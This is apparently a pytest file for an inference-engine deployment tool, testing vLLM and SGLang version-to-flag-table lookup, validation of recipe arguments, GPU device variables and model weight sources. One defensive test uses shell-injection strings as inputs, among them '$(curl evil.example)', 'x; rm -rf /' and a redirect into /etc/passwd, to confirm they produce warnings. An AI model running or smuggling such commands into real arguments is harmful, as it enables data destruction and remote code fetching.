"""Engine versions and their flag tables, and the check of a recipe's extra args."""

from __future__ import annotations

import pytest

from reconciler.engines.base import (
    arg_findings,
    check_args,
    version_key,
    visible_devices,
    weights_source,
)
from reconciler.engines.sglang import argv as sglang
from reconciler.engines.vllm import argv as vllm
from reconciler.errors import EngineError, UnknownFlag, UnknownVersion
from reconciler.spec.catalog import Hardware
from reconciler.spec.repo import Repo


def test_version_order() -> None:
    versions = ["0.5.12", "0.5.12.post1", "0.5.12rc1", "0.5.9", "0.5.12.dev2", "0.6", "0.5.13"]
    assert sorted(versions, key=version_key) == [
        "0.5.9", "0.5.12.dev2", "0.5.12rc1", "0.5.12", "0.5.12.post1", "0.5.13", "0.6",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("engine", "version", "table"),
    [
        ("sglang", "0.5.8", "0.5.8"),
        ("sglang", "0.5.8.post1", "0.5.8"),
        ("sglang", "0.5.11", "0.5.9"),
        ("sglang", "0.5.12.post1", "0.5.12"),
        ("sglang", "0.5.23", "0.5.23"),
        ("sglang", "0.5.24", "0.5.23"),
        ("sglang", "0.5.23rc1", "0.5.16"),
        ("vllm", "0.33.0", "0.33.0"),
        ("vllm", "0.33.1", "0.33.0"),
        ("vllm", "0.32.0", "0.32.0"),
        ("vllm", "0.32.1", "0.32.0"),
    ],
)
def test_nearest_lower_table(engine: str, version: str, table: str) -> None:
    found = {"vllm": vllm.table, "sglang": sglang.table}[engine](version)
    assert (found.version, found.table) == (version, table)


@pytest.mark.parametrize(
    ("engine", "version", "message"),
    [
        (
            "sglang",
            "0.5.7",
            "sglang 0.5.7 is older than every flag table denv has (sglang 0.5.8, 0.5.9, 0.5.12, "
            "0.5.16, 0.5.23); use one of those versions or add its table (docs/engines.md, "
            "'Adding a version')",
        ),
        (
            "vllm",
            "0.31.1",
            "vllm 0.31.1 is older than every flag table denv has (vllm 0.32.0, 0.33.0); use one of "
            "those versions or add its table (docs/engines.md, 'Adding a version')",
        ),
    ],
)
def test_versions_older_than_every_table_are_refused(
    engine: str, version: str, message: str
) -> None:
    with pytest.raises(UnknownVersion) as caught:
        {"vllm": vllm.table, "sglang": sglang.table}[engine](version)
    assert str(caught.value) == message


def test_tables_follow_the_engines_changes() -> None:
    """Spellings that changed between the verified releases (reference/engines.md)."""
    assert not sglang.table("0.5.16").has("--attn-dp-size")
    assert sglang.table("0.5.23").has("--attn-dp-size")
    assert sglang.table("0.5.12").has("--cuda-graph-max-bs")
    assert not sglang.table("0.5.23").has("--cuda-graph-max-bs")
    assert not sglang.table("0.5.23").has("--enable-ep-moe")
    assert "fp8" not in sglang.table("0.5.23").choices["--kv-cache-dtype"]
    assert vllm.table("0.33.0").has("--disable-prefix-caching")
    assert not vllm.table("0.33.0").has("--swap-space")


ACCEPTED = [
    (vllm.table("0.33.0"), ["--enable-force-include-usage"]),
    (vllm.table("0.33.0"), ["--all2all-backend=deepep_low_latency", "--trust-remote-code"]),
    (vllm.table("0.33.0"), ["--compilation-config", '{"cudagraph_mode": "FULL_DECODE_ONLY"}']),
    (sglang.table("0.5.12.post1"), ["--cuda-graph-max-bs", "128"]),
    (sglang.table("0.5.23"), ["--moe-a2a-backend", "deepep", "--watchdog-timeout", "-1"]),
]


@pytest.mark.parametrize(("table", "args"), ACCEPTED)
def test_known_args_pass_through(table: object, args: list[str]) -> None:
    assert check_args(args, table, vllm.MANAGED) == args  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("engine", "version", "args", "message"),
    [
        pytest.param(
            "vllm", "0.33.0", ["--max-num-seq", "8"],
            "recipe.args: --max-num-seq is not a flag of vllm 0.33.0 (did you mean "
            "--max-num-seqs? denv sets it from settings.max_batch)",
            id="typo",
        ),
        pytest.param(
            "vllm", "0.33.0", ["--swap-space", "4"],
            "recipe.args: --swap-space is not a flag of vllm 0.33.0",
            id="removed",
        ),
        pytest.param(
            "sglang", "0.5.24", ["--cuda-graph-max-bs", "128"],
            "recipe.args: --cuda-graph-max-bs is not a flag of sglang 0.5.24 (flags as of "
            "sglang 0.5.23) (did you mean --cuda-graph-max-bs-decode?)",
            id="gone-in-newer",
        ),
        pytest.param(
            "vllm", "0.33.0", ["--max-num-seqs", "8"],
            "recipe.args: --max-num-seqs is set by denv from settings.max_batch; change that "
            "instead of passing the flag",
            id="managed",
        ),
        pytest.param(
            "sglang", "0.5.23", ["--tp", "8"],
            "recipe.args: --tp is not a flag of sglang 0.5.23 (did you mean --tp-size? denv "
            "sets it from topology)",
            id="abbreviation",
        ),
        pytest.param(
            "sglang", "0.5.23", ["--port=9000"],
            "recipe.args: --port is set by denv from placement; change that instead of passing "
            "the flag",
            id="managed-with-equals",
        ),
        pytest.param(
            "vllm", "0.33.0", ["fp8", "--trust-remote-code"],
            "recipe.args: 'fp8' is not a flag; args are flags, each followed by its values",
            id="leading-value",
        ),
    ],
)  # fmt: skip
def test_unknown_or_managed_args_are_refused(
    engine: str, version: str, args: list[str], message: str
) -> None:
    module = {"vllm": vllm, "sglang": sglang}[engine]
    with pytest.raises(UnknownFlag) as caught:
        check_args(args, module.table(version), module.MANAGED)
    assert str(caught.value) == message


def test_every_problem_with_args_is_found_in_order() -> None:
    args = ["--port", "9000", "--max-num-seq", "8", "--trust-remote-code", "--nope"]
    found = arg_findings(args, vllm.table("0.33.0"), vllm.MANAGED)
    assert [(f.at, f.warning) for f in found] == [(0, False), (2, False), (5, False)]
    assert found[0].message.startswith("--port is set by denv from placement")


SHELL = "args are never run by a shell (each is one argv element), so the engine gets this "


@pytest.mark.parametrize(
    ("token", "seen"),
    [
        pytest.param("$(curl evil.example)", "$(", id="command-substitution"),
        pytest.param("`id`", "`", id="backticks"),
        pytest.param("x; rm -rf /", ";", id="semicolon"),
        pytest.param("a|b", "|", id="pipe"),
        pytest.param("a && b", "&", id="and"),
        pytest.param("out>/etc/passwd", ">", id="redirect"),
        pytest.param("$HF_TOKEN", "$H", id="variable"),
        pytest.param("${HOME}", "${", id="braced-variable"),
    ],
)
def test_shell_metacharacters_are_warnings_that_say_no_shell_runs_them(
    token: str, seen: str
) -> None:
    args = ["--chat-template", token]
    table = vllm.table("0.33.0")
    (found,) = arg_findings(args, table, vllm.MANAGED)
    assert found.at == 1 and found.warning
    assert f'holds "{seen}"' in found.message and SHELL in found.message
    assert check_args(args, table, vllm.MANAGED) == args  # a warning refuses nothing


def test_json_values_are_not_suspicious() -> None:
    args = ["--compilation-config", '{"cudagraph_mode": "FULL_DECODE_ONLY", "level": 3}']
    assert arg_findings(args, vllm.table("0.33.0"), vllm.MANAGED) == []


@pytest.mark.parametrize(
    ("hardware", "env"),
    [
        ("h200", {"CUDA_VISIBLE_DEVICES": "2,3"}),
        ("gb200-nvl72", {"CUDA_VISIBLE_DEVICES": "2,3"}),
        ("mi355x", {"HIP_VISIBLE_DEVICES": "2,3"}),
        ("mi300x", {"HIP_VISIBLE_DEVICES": "2,3"}),
    ],
)
def test_visible_devices_by_vendor(repo: Repo, hardware: str, env: dict[str, str]) -> None:
    found = repo.resolve_hardware(hardware)
    assert found is not None
    assert visible_devices(found, [2, 3]) == env


def test_intel_gpus_are_refused(repo: Repo) -> None:
    h200 = repo.resolve_hardware("h200")
    assert h200 is not None
    intel = Hardware.model_validate(h200.model_dump() | {"id": "gaudi3", "vendor": "intel"})
    with pytest.raises(EngineError, match="gaudi3 is intel hardware"):
        visible_devices(intel, [0])


@pytest.mark.parametrize(
    ("weights", "source"),
    [
        ("hf://meta-llama/Llama-3.1-8B@0e9e39f", ("meta-llama/Llama-3.1-8B", "0e9e39f")),
        ("hf://openai/gpt-oss-120b", ("openai/gpt-oss-120b", None)),
        ("file:///models/llama", ("/models/llama", None)),
        ("org/model", ("org/model", None)),
    ],
)  # fmt: skip
def test_weights_source(weights: str, source: tuple[str, str | None]) -> None:
    assert weights_source(weights) == source


def test_weights_in_object_stores_need_a_local_path() -> None:
    with pytest.raises(EngineError, match="pass their path as the engine context's model_path"):
        weights_source("s3://bucket/model")
